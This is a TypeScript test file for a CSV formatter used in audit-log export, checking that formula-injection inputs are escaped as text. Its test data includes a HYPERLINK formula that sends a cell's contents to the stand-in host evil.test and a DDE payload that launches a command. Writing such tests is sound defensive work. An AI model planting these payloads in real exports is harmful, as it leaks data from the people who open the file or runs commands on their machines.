import fc from 'fast-check'
import { expect, test } from 'vitest'
import { formatCsvCell, formatCsvLine } from './export-audit-log'

test.each([
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("http://evil.test?x="&A1)', `"'=HYPERLINK(""http://evil.test?x=""&A1)"`],
  ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['   =1', `"'   =1"`],
  ['\uFEFF=1', `"'\uFEFF=1"`],
  ['\u00a0@x', `"'\u00a0@x"`],
  ['＝1', `"'＝1"`],
  ['＋1', `"'＋1"`],
  ['－1', `"'－1"`],
  ['＠x', `"'＠x"`],
  ['\u0000=1', `"'=1"`],
])('what a spreadsheet would calculate becomes text: %j', (value, cell) => {
  expect(formatCsvCell(value)).toBe(cell)
})

test.each([
  ['Approved @ana', '"Approved @ana"'],
  ['a=b', '"a=b"'],
  ['said "hail, now"', '"said ""hail, now"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['', '""'],
  [null, '""'],
])('what it would not stays as it is: %j', (value, cell) => {
  expect(formatCsvCell(value)).toBe(cell)
})

/** Reads one line by RFC 4180. */
function read(line: string): string[] {
  const cells = [...line.matchAll(/"((?:[^"]|"")*)"(,|\r\n$)/g)]
  expect(cells.map(([whole]) => whole).join('')).toBe(line)
  return cells.map(([, value = '']) => value.replaceAll('""', '"'))
}

test('any values keep their columns and none begins as a formula', () => {
  const sign = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', 'a', ';', '\u0000')
  const value = fc.oneof(
    fc.string(),
    fc.array(sign, { maxLength: 8 }).map((signs) => signs.join('')),
  )
  fc.assert(
    fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), (values) => {
      const cells = read(formatCsvLine(values))
      expect(cells).toHaveLength(values.length)
      for (const [index, cell] of cells.entries()) {
        expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
        expect([cell, cell.slice(1)]).toContain(values[index]?.replaceAll('\u0000', ''))
      }
    }),
  )
})
